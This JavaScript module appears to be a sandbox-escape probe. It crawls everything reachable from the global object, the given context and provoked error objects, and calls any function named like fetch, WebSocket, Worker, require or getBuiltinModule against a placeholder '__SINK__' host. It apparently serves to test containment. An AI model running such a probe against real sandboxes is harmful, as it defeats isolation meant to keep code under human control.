// Everything reachable from what is here, by properties, getters, prototypes and thrown errors; whatever is named like a way out is called.
const NAMES = /^(fetch|XMLHttpRequest|WebSocket|EventSource|Worker|importScripts|sendBeacon|open|Request|require|getBuiltinModule|binding)$/
export async function work(input, ctx) {
  const seen = new Set()
  const queue = [globalThis, ctx, (async () => {})(), (function* () {})(), (async function* () {})(), [][Symbol.iterator](), 'x'.matchAll(/x/g)]
  for (const provoke of [() => atob('%'), () => structuredClone(() => {}), () => null.x, () => new TextDecoder('x'), () => crypto.getRandomValues(new Uint8Array(1e6))])
    try {
      provoke()
    } catch (error) {
      queue.push(error)
    }
  while (queue.length > 0 && seen.size < 20_000) {
    const value = queue.pop()
    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) continue
    seen.add(value)
    try {
      queue.push(Object.getPrototypeOf(value))
      for (const key of Reflect.ownKeys(value)) {
        const { get, set, value: held } = Object.getOwnPropertyDescriptor(value, key)
        queue.push(get, set, held)
        if (typeof held === 'function' && NAMES.test(String(key))) {
          attempt(() => held.call(value, 'http://__SINK__/walk', { mode: 'no-cors' }))
          attempt(() => new held('ws://__SINK__/walk'))
        }
      }
    } catch {}
  }
  return settled()
}
